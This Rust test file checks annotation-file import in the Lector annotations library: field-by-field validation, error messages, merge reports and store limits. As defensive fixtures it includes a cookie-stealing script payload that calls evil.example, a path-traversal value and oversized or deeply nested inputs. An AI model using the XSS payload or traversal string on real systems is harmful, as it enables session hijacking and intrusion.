//! Importing files: everything validated first; a bad file changes nothing and names item and field.

mod common;

use common::{add, at, id, ARTICLE};
use lector_annotations::limits::MAX_ITEMS;
use lector_annotations::{
    default_article_iri, read_import, AnnotationStore, DecodeError, ExportFormat, ExportOptions, ImportError,
    ImportFormat, Scope, TooManyAnnotations, SCHEMA_VERSION,
};
use serde_json::{json, Value};

const A: &str = "000_729a53cc0895712a";

fn options() -> ExportOptions<'static> {
    ExportOptions { now: at(10_000), article_iri: &default_article_iri, article_title: &|_| None }
}

/// The reader's store before every import.
fn existing() -> AnnotationStore {
    let mut store = AnnotationStore::new();
    add(&mut store, 1, A, ARTICLE, "denied", "mine", &["kept"]);
    store
}

/// A valid Lector export with two annotations (ids 10 and 11).
fn lector_file() -> Value {
    let mut store = AnnotationStore::new();
    add(&mut store, 10, A, ARTICLE, "two people familiar with the matter", "who?", &["anonymous"]);
    add(&mut store, 11, A, ARTICLE, "Zürich and São Paulo", "cities", &["places"]);
    serde_json::from_str(&store.export(ExportFormat::Lector, Scope::All, &options())).unwrap()
}

/// Imports `file` into [`existing`], which must come out unchanged on error.
fn import_expecting_error(file: &Value) -> DecodeError {
    let mut store = existing();
    let err = store.import(&file.to_string(), at(10_000)).expect_err("the file was accepted");
    assert_eq!(store, existing(), "a refused import changed the store");
    file_error(err)
}

/// The reason a file was unreadable (not a refusal for lack of room).
fn file_error(err: ImportError) -> DecodeError {
    match err {
        ImportError::File(error) => error,
        other => panic!("expected the file to be refused as unreadable, got {other:?}"),
    }
}

#[test]
fn each_invalid_field_is_named_with_its_item() {
    let long_note = "n".repeat(20_001);
    let many_tags: Vec<String> = (0..33).map(|i| format!("t{i}")).collect();
    // (JSON pointer inside annotation 2, new value or None to remove, field named in the error)
    let table: Vec<(&str, Option<Value>, &str)> = vec![
        ("/id", Some(json!("abc")), "id"),
        ("/id", Some(json!("6f1c2a3b-8d4e-1f5a-9b6c-7d8e9f0a1b2c")), "id"),
        ("/id", Some(json!(42)), "id"),
        ("/id", None, "id"),
        ("/article", Some(json!("../etc/passwd")), "article"),
        ("/created", Some(json!("yesterday")), "created"),
        ("/modified", Some(json!("2026-11-22T00:00:00Z")), "modified"),
        ("/modified", Some(json!("2031-01-01T00:00:00Z")), "modified"),
        ("/body/note", Some(json!(long_note)), "body.note"),
        ("/body/tags", Some(json!([7])), "body.tags[0]"),
        ("/body/tags", Some(json!(many_tags)), "body.tags"),
        ("/body/tags", Some(json!(["x".repeat(65)])), "body.tags"),
        ("/body/colour", Some(json!("red")), "body.colour"),
        ("/body", Some(json!("just a note")), "body"),
        ("/target/position/start", Some(json!(100_000)), "target.position.start"),
        ("/target/position/end", Some(json!(-1)), "target.position.end"),
        ("/target/position/start", Some(json!("12")), "target.position.start"),
        ("/target/position/end", Some(json!(1.5)), "target.position.end"),
        // UTF-16 offsets from another tool: "Zürich and São Paulo" is 20 code points.
        ("/target/position/end", Some(json!(9_999)), "target.position"),
        ("/target/quote/exact", Some(json!("")), "target.quote.exact"),
        ("/target/quote/exact", None, "target.quote.exact"),
        ("/target/quote/prefix", Some(json!("p".repeat(257))), "target.quote.prefix"),
        ("/target", None, "target"),
        ("", Some(json!("not an annotation")), ""),
    ];
    for (pointer, value, field) in table {
        let mut file = lector_file();
        let item = file.pointer_mut("/annotations/1").unwrap();
        match (pointer, value) {
            ("", Some(value)) => *item = value,
            (pointer, Some(value)) => *item.pointer_mut(pointer).unwrap_or_else(|| panic!("{pointer}")) = value,
            (pointer, None) => {
                let (parent, key) = pointer.rsplit_once('/').unwrap();
                item.pointer_mut(parent).unwrap().as_object_mut().unwrap().remove(key);
            }
        }
        match import_expecting_error(&file) {
            DecodeError::Invalid { problems, total } => {
                assert_eq!(total, 1, "{pointer}: {problems:?}");
                assert_eq!(
                    (problems[0].item, problems[0].field.as_str()),
                    (Some(2), field),
                    "{pointer}: {}",
                    problems[0]
                );
            }
            other => panic!("{pointer}: {other:?}"),
        }
    }
}

#[test]
fn every_problem_is_reported_not_just_the_first() {
    let mut file = lector_file();
    file["annotations"][0]["id"] = json!("bad");
    file["annotations"][1]["target"]["position"]["start"] = json!(400);
    let err = import_expecting_error(&file);
    let text = err.to_string();
    assert!(text.starts_with("2 problems found, nothing was changed:"), "{text}");
    assert!(text.contains("annotation 1 (id \"bad\"): field `id`"), "{text}");
    assert!(
        text.contains("annotation 2 (id \"00000000-0000-4000-8000-00000000000b\"): field `target.position.start`"),
        "{text}"
    );
}

#[test]
fn duplicate_ids_name_both_items() {
    let mut file = lector_file();
    file["annotations"][1]["id"] = file["annotations"][0]["id"].clone();
    let text = import_expecting_error(&file).to_string();
    assert!(text.contains("annotation 2") && text.contains("same as annotation 1's"), "{text}");
}

#[test]
fn hostile_documents_are_refused_before_parsing() {
    type Check = fn(&DecodeError) -> bool;
    let table: Vec<(String, Check)> = vec![
        (format!("{}{}", "[".repeat(10_000), "]".repeat(10_000)), |e| matches!(e, DecodeError::TooDeep { .. })),
        (format!("\"{}\"", "x".repeat(17 * 1024 * 1024)), |e| matches!(e, DecodeError::TooLarge { .. })),
        ("{\"annotations\": [".to_owned(), |e| matches!(e, DecodeError::NotJson { .. })),
        ("{\"title\": \"my notes\"}".to_owned(), |e| matches!(e, DecodeError::Foreign { .. })),
        (
            format!(
                "{{\"schema\":\"lector-annotations\",\"version\":1,\"annotations\":[{}]}}",
                vec!["0"; 50_001].join(",")
            ),
            |e| matches!(e, DecodeError::TooManyItems { count: 50_001, .. }),
        ),
        (lector_file().to_string().replace(&format!("\"version\":{SCHEMA_VERSION}"), "\"version\":99"), |e| {
            matches!(e, DecodeError::NewerVersion { .. })
        }),
    ];
    for (raw, expected) in table {
        let mut store = existing();
        let err = file_error(store.import(&raw, at(10_000)).unwrap_err());
        assert!(expected(&err), "{err:?}");
        assert_eq!(store, existing());
    }
}

#[test]
fn a_valid_file_merges_and_reports() {
    let mut store = existing();
    let report = store.import(&lector_file().to_string(), at(10_000)).unwrap();
    assert_eq!(report.format, ImportFormat::Lector);
    assert_eq!((report.merge.added, report.merge.updated, report.merge.unchanged), (2, 0, 0));
    assert_eq!(store.len(), 3);
    // The same file again: nothing new.
    let again = store.import(&lector_file().to_string(), at(10_000)).unwrap();
    assert_eq!((again.merge.added, again.merge.updated, again.merge.unchanged), (0, 0, 2));
    assert_eq!(again.to_string(), "Imported Lector annotations: 0 added, 0 updated, 2 unchanged");
    // A colleague's newer version of one of them.
    let mut newer = lector_file();
    newer["annotations"][0]["body"]["note"] = json!("the colleague's answer");
    newer["annotations"][0]["modified"] = json!(at(5_000).to_rfc3339());
    let report = store.import(&newer.to_string(), at(10_000)).unwrap();
    assert_eq!((report.merge.added, report.merge.updated, report.merge.unchanged), (0, 1, 1));
    assert_eq!(store.get(&id(10)).unwrap().body().note(), "the colleague's answer");
}

/// A Lector file of `count` plain highlights on the same words, ids `first..`.
fn file_of(first: u64, count: u64) -> String {
    let mut template = lector_file()["annotations"][0].clone();
    template["body"] = json!({});
    let annotations: Vec<Value> = (first..first + count)
        .map(|n| {
            let mut item = template.clone();
            item["id"] = json!(id(n).as_str());
            item
        })
        .collect();
    json!({"schema": "lector-annotations", "version": 1, "annotations": annotations}).to_string()
}

#[test]
fn an_import_that_would_pass_the_limit_is_refused_whole() {
    // The reader's store one short of the limit.
    let mut store = existing();
    let room = (MAX_ITEMS - store.len()) as u64;
    // In files of 20,000, each well under the size limit.
    let mut imported = 0;
    while imported < room - 1 {
        let count = (room - 1 - imported).min(20_000);
        store.import(&file_of(1_000 + imported, count), at(10_000)).unwrap();
        imported += count;
    }
    assert_eq!(store.len(), MAX_ITEMS - 1);
    let before = store.clone();

    // Two new annotations do not fit: nothing of the file is merged.
    let err = store.import(&file_of(900, 2), at(10_000)).unwrap_err();
    assert_eq!(err, ImportError::TooMany(TooManyAnnotations { here: MAX_ITEMS - 1, adding: 2, limit: MAX_ITEMS }));
    assert_eq!(store, before, "a refused import changed the store");
    let message = err.to_string();
    assert!(message.contains(&format!("at most {MAX_ITEMS}")), "the message names the limit: {message}");
    assert!(message.contains("nothing was imported"), "{message}");

    // One new annotation (id 999) and ten already here fit exactly.
    let report = store.import(&file_of(999, 11), at(10_000)).unwrap();
    assert_eq!((report.merge.added, report.merge.unchanged, store.len()), (1, 10, MAX_ITEMS));
    // At the limit, a file of annotations already here is still merged (it adds none).
    assert_eq!(store.import(&file_of(1_000, 5), at(10_000)).unwrap().merge.unchanged, 5);
    assert!(matches!(store.import(&file_of(2, 1), at(10_000)), Err(ImportError::TooMany(_))));
}

#[test]
fn a_file_cannot_delete_the_reader_s_notes() {
    let mut file = lector_file();
    file["deleted"] = json!([{"id": id(1).as_str(), "article": A, "deleted": at(9_000).to_rfc3339()}]);
    let mut store = existing();
    store.import(&file.to_string(), at(10_000)).unwrap();
    assert_eq!(store.get(&id(1)).unwrap().body().note(), "mine");
}

#[test]
fn markup_in_imported_notes_stays_text() {
    let mut file = lector_file();
    let note = "<script>fetch('//evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>";
    file["annotations"][0]["body"]["note"] = json!(note);
    let imported = read_import(&file.to_string(), at(10_000)).unwrap();
    assert_eq!(imported.annotations().get(&id(10)).unwrap().body().note(), note);
}

fn w3c_item(file: &mut Value) -> &mut Value {
    file.pointer_mut("/first/items/0").unwrap()
}

#[test]
fn w3c_export_imports_back_exactly() {
    let mut original = AnnotationStore::new();
    add(
        &mut original,
        10,
        A,
        ARTICLE,
        "two people familiar with the matter",
        "who?\n\n**both** unnamed",
        &["anonymous", "two sources"],
    );
    add(&mut original, 11, "b", ARTICLE, "resume 🎉 next week", "", &[]);
    original.set_colour(&id(11), lector_annotations::Colour::Green, at(20)).unwrap();
    let w3c = original.export(ExportFormat::W3c, Scope::All, &options());
    let mut fresh = AnnotationStore::new();
    let report = fresh.import(&w3c, at(10_000)).unwrap();
    assert_eq!(report.format, ImportFormat::W3c);
    assert_eq!(report.merge.added, 2);
    assert_eq!(fresh, original);
}

#[test]
fn w3c_items_lector_cannot_keep_are_refused_by_field() {
    let mut store = AnnotationStore::new();
    add(&mut store, 10, A, ARTICLE, "two people", "who?", &[]);
    let base: Value = serde_json::from_str(&store.export(ExportFormat::W3c, Scope::All, &options())).unwrap();
    // (change to annotation 1, field named)
    type Change = fn(&mut Value);
    let table: Vec<(Change, &str)> = vec![
        (|a| a["id"] = json!("tag:example.org,2026:8sPWzP"), "id"),
        (|a| a["type"] = json!("Note"), "type"),
        (|a| a["target"] = json!("https://example.org/article"), "target"),
        (|a| a["target"]["source"] = json!(""), "target.source"),
        (|a| a["target"]["selector"] = json!([a["target"]["selector"][1].clone()]), "target.selector"),
        (|a| a["target"]["selector"][1]["start"] = json!("0"), "target.selector[1].start"),
        (|a| a["target"]["selector"][0]["exact"] = json!(""), "target.selector[0].exact"),
        (|a| a["body"][0] = json!({"type": "Image", "id": "https://example.org/x.png"}), "body[0].type"),
        (|a| a["created"] = json!("23/11/2026"), "created"),
        (
            |a| {
                a.as_object_mut().unwrap().remove("created");
                a.as_object_mut().unwrap().remove("modified");
            },
            "created",
        ),
    ];
    for (change, field) in table {
        let mut file = base.clone();
        change(w3c_item(&mut file));
        match import_expecting_error(&file) {
            DecodeError::Invalid { problems, .. } => {
                assert_eq!((problems[0].item, problems[0].field.as_str()), (Some(1), field), "{}", problems[0]);
            }
            other => panic!("{field}: {other:?}"),
        }
    }
}

#[test]
fn other_w3c_shapes_are_accepted() {
    let mut store = AnnotationStore::new();
    add(&mut store, 10, A, ARTICLE, "two people", "who?", &["anonymous"]);
    let collection: Value = serde_json::from_str(&store.export(ExportFormat::W3c, Scope::All, &options())).unwrap();
    let mut single = collection["first"]["items"][0].clone();
    single["@context"] = json!("http://www.w3.org/ns/anno.jsonld");
    // A single annotation, with the note as `bodyValue` and no colour: the default colour.
    let mut plain = single.clone();
    plain.as_object_mut().unwrap().remove("body");
    plain["bodyValue"] = json!("who?");
    plain["target"].as_object_mut().unwrap().remove("styleClass");
    for document in [single.clone(), json!([single]), plain] {
        let imported = read_import(&document.to_string(), at(10_000)).unwrap();
        let annotation = imported.annotations().get(&id(10)).unwrap();
        assert_eq!(annotation.body().note(), "who?", "{document}");
        assert_eq!(annotation.article().as_str(), A);
    }
}

#[test]
fn messages_say_what_is_wrong() {
    // (raw file, the message says, the message must not say)
    let with = |pointer: &str, value: Value| {
        let mut file = lector_file();
        *file.pointer_mut(&format!("/annotations/0{pointer}")).unwrap() = value;
        file.to_string()
    };
    let binary: String = (0u32..4_000).map(|i| char::from(((i * 7919 + 13) % 256) as u8)).collect();
    let table: Vec<(String, &str, &str)> = vec![
        (with("/target/position/start", json!(4_294_967_296u64)), "too large", "whole number"),
        (with("/target/position/end", json!(4_294_967_296u64)), "too large", "whole number"),
        (with("/target/position/end", json!(1e20)), "too large", "whole number"),
        (with("/target/position/end", json!(-3)), "whole number of 0 or more", "too large"),
        (binary, "binary file", "nests"),
        (lector_file().to_string().replacen("who?", "who? \\ud83d", 1), "lone surrogate", "cut off"),
        (lector_file().to_string()[..200].to_owned(), "cut off", "surrogate"),
        (with("/body/tags", json!(["\u{feff}"])), "invisible characters (U+FEFF)", "control"),
        (with("/body/tags", json!(["\u{200b}\u{200c}"])), "invisible characters", "control"),
    ];
    for (raw, says, not) in table {
        let mut store = existing();
        let message = store.import(&raw, at(10_000)).unwrap_err().to_string();
        assert!(message.contains(says) && !message.contains(not), "{raw:.60?}…: {message}");
        assert_eq!(store, existing());
    }
}

#[test]
fn unknown_lector_fields_are_refused_by_name_not_dropped() {
    // (JSON pointer of the new field, the field named)
    let table = [
        ("/annotations/0/creator", "creator"),
        ("/annotations/0/body/emoji", "body.emoji"),
        ("/annotations/0/target/selector", "target.selector"),
        ("/annotations/0/target/quote/language", "target.quote.language"),
        ("/annotations/0/target/position/unit", "target.position.unit"),
    ];
    for (pointer, field) in table {
        let mut file = lector_file();
        let (parent, key) = pointer.rsplit_once('/').unwrap();
        file.pointer_mut(parent).unwrap().as_object_mut().unwrap().insert(key.into(), json!("x"));
        match import_expecting_error(&file) {
            DecodeError::Invalid { problems, .. } => {
                assert_eq!(problems[0].field, field, "{}", problems[0]);
                assert!(problems[0].message.contains("not a field Lector knows"), "{}", problems[0]);
            }
            other => panic!("{pointer}: {other:?}"),
        }
    }
    let mut file = lector_file();
    file["exported_by"] = json!("a script");
    assert!(import_expecting_error(&file).to_string().contains("`exported_by`"));
}
